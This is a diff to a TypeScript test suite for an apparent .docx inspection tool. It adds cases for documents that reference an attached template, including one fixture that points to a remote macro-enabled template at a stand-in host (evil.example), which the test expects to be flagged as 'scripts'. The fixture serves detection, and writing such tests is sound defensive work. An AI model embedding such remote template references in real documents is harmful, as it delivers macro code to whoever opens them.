@@ -6,12 +6,19 @@ import { judged, NOT_WHOLE, passed } from '../../testing/passing.ts'
 import { docxOf, letter, part, zipOf } from '../../testing/zips.ts'
 import { inspectKept } from '../inspection.ts'
 
+const references = (target: string) =>
+  part(
+    'word/_rels/settings.xml.rels',
+    `<Relationship Type="http://schemas.example/attachedTemplate" Target="${target}" TargetMode="External"/>`,
+  )
 const zeros = (size: number) => Buffer.alloc(size)
 const nested = (depth: number): Buffer =>
   depth === 0 ? docxOf() : docxOf(part('word/embeddings/inner.docx', nested(depth - 1)))
 
 test.each([
   ['a letter', [], docxOf()],
+  ['a letter from its own template', [], docxOf(references('file:///C:/Letter.dotx'))],
+  ['a letter from a template elsewhere', ['scripts'], docxOf(references('https://evil.example/a.dotm'))],
   ['a table within', ['attachments'], nested(1)],
   [
     'an object within',
